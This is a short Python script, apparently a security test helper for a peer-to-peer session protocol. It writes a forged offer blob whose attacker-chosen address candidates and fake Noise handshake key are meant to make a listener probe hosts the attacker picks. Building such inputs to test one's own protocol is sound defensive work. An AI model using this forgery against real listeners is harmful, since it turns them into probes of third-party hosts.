#!/usr/bin/env python3
"""attack_offer.py OUT CAND...: a forged offer that lists the addresses the
attacker wants a listener to probe.

Writes to OUT the blob of an offer (session.c's TLVs, as signal.c's dir:
backend stores it after its header): version 2, a random connection id,
one CAND per argument, and a Noise message 1 (a random ephemeral key: the
listener cannot tell it from a real caller's until message 3, which never
comes).  Each CAND is ADDR:PORT, [ADDR6]:PORT, either with /host, /srflx or
/relay after it (default host).
Exit 0, or 2 on misuse.
"""
import ipaddress
import os
import sys

VERSION = 2  # session.c's BLOB_VERSION
TLV_CID, TLV_CAND, TLV_NOISE = 1, 2, 5
TYPES = {"host": 0, "srflx": 1, "relay": 2}


def tlv(t, v):
    return bytes([t]) + len(v).to_bytes(2, "big") + v


def cand(arg):
    """One CAND value from ADDR:PORT[/TYPE]."""
    arg, _, kind = arg.partition("/")
    host, _, port = arg.rpartition(":")
    ip = ipaddress.ip_address(host.strip("[]"))
    fam = 4 if ip.version == 4 else 6
    return bytes([TYPES[kind or "host"], fam]) + int(port).to_bytes(2, "big") + ip.packed


def main():
    if len(sys.argv) < 3:
        sys.stderr.write(__doc__)
        return 2
    try:
        cands = [cand(a) for a in sys.argv[2:]]
    except (KeyError, ValueError) as e:
        sys.stderr.write("attack_offer.py: bad candidate: %s\n" % e)
        return 2
    cid = os.urandom(4)
    while cid == bytes(4):
        cid = os.urandom(4)
    blob = bytes([VERSION]) + tlv(TLV_CID, cid)
    for c in cands:
        blob += tlv(TLV_CAND, c)
    blob += tlv(TLV_NOISE, os.urandom(32))
    with open(sys.argv[1], "wb") as f:
        f.write(blob)
    return 0


if __name__ == "__main__":
    sys.exit(main())
